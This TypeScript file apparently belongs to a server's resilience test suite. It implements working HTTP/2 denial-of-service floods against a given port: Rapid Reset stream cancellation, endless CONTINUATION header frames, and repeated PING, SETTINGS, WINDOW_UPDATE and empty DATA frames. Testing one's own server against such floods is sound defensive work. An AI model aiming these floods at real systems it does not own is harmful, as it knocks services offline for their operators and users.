import { inferPath } from '../../src/loadtest/payload.js';
import { connectRaw, type RawConnection } from '../raw/connection.js';
import {
  callHeaders,
  flag,
  frame,
  frameBytesMax,
  resetFrame,
  settingsFrame,
  type,
  windowUpdate,
} from '../raw/frames.js';
import { outcomeOf, unreachable, wait, type Attack } from './attack.js';

/** Frames that go in one write. */
const batchFrames = 500;
/** After the server's goodbye the flood goes on a little, as an attacker's would. */
const afterGoAwayMs = 1000;

interface Flood {
  /** Bytes of the next batch, and how many frames that are. */
  readonly next: () => Buffer;
  readonly framesPerBatch: number;
  readonly seconds: number;
  readonly framesMax?: number;
}

/** Writes batches until the connection is cut, the time is over or the frames are sent. */
async function flood(connection: RawConnection, plan: Flood): Promise<number> {
  let endMs = performance.now() + plan.seconds * 1000;
  let sent = 0;
  let left = false;
  while (!connection.closed && performance.now() < endMs && sent < (plan.framesMax ?? Infinity)) {
    if (connection.goAway !== undefined && !left) {
      left = true;
      endMs = Math.min(endMs, performance.now() + afterGoAwayMs);
    }
    if (connection.socket.writableNeedDrain) {
      await wait(1);
      continue;
    }
    connection.write(plan.next());
    sent += plan.framesPerBatch;
    await new Promise((resolve) => setImmediate(resolve));
  }
  return sent;
}

/** 50,000 calls that are taken back with the next frame. */
export const rapidReset: Attack = async ({ port, seconds }) => {
  const connection = await connectRaw(port);
  if (connection === undefined) return unreachable;
  const headers = callHeaders(inferPath);
  const next = (): Buffer => {
    const frames: Buffer[] = [];
    for (let i = 0; i < batchFrames; i++) {
      const stream = connection.stream();
      connection.streams.delete(stream);
      frames.push(frame({ type: type.headers, flags: flag.endHeaders, stream }, headers), resetFrame(stream));
    }
    return Buffer.concat(frames);
  };
  const sent = await flood(connection, {
    next,
    framesPerBatch: batchFrames,
    seconds: seconds * 3,
    framesMax: 50_000,
  });
  return outcomeOf(connection, `${sent} calls reset`);
};

/** Headers that never end, in frames of the given size. */
function continuationFlood(frameBytes: number): Attack {
  return async ({ port, seconds }) => {
    const connection = await connectRaw(port);
    if (connection === undefined) return unreachable;
    const stream = connection.stream();
    connection.write(frame({ type: type.headers, stream }, callHeaders(inferPath)));
    const one = frame({ type: type.continuation, stream }, continuedFields(frameBytes));
    const framesPerBatch = frameBytes === 0 ? batchFrames : 8;
    const batch = Buffer.concat(Array.from({ length: framesPerBatch }, () => one));
    const sent = await flood(connection, {
      next: () => batch,
      framesPerBatch,
      seconds,
      framesMax: 200_000,
    });
    return outcomeOf(connection, `${sent} CONTINUATION of ${frameBytes} B`);
  };
}

/** Whole header fields that fill a frame. */
function continuedFields(bytes: number): Buffer {
  const field = Buffer.concat([
    Buffer.from([0, 3]),
    Buffer.from('x-y'),
    Buffer.from([58]),
    Buffer.alloc(58, 'v'),
  ]);
  return Buffer.concat(Array.from({ length: Math.floor(bytes / field.byteLength) }, () => field));
}

export const continuation = continuationFlood(frameBytesMax);
export const emptyContinuation = continuationFlood(0);

/** The same frame over and over. */
function repeat(name: string, one: Buffer): Attack {
  return async ({ port, seconds }) => {
    const connection = await connectRaw(port);
    if (connection === undefined) return unreachable;
    const batch = Buffer.concat(Array.from({ length: batchFrames }, () => one));
    const sent = await flood(connection, { next: () => batch, framesPerBatch: batchFrames, seconds });
    return outcomeOf(connection, `${sent} ${name}`);
  };
}

export const pings = repeat('PING', frame({ type: type.ping, stream: 0 }, Buffer.alloc(8)));
export const settings = repeat('SETTINGS', settingsFrame([]));
export const windowUpdates = repeat('WINDOW_UPDATE', windowUpdate(0, 1));

/** DATA frames that carry nothing, on a call that is open. */
export const emptyData: Attack = async ({ port, seconds }) => {
  const connection = await connectRaw(port);
  if (connection === undefined) return unreachable;
  const stream = connection.open(inferPath);
  const batch = Buffer.concat(Array.from({ length: batchFrames }, () => frame({ type: type.data, stream })));
  const sent = await flood(connection, { next: () => batch, framesPerBatch: batchFrames, seconds });
  return outcomeOf(connection, `${sent} empty DATA`);
};
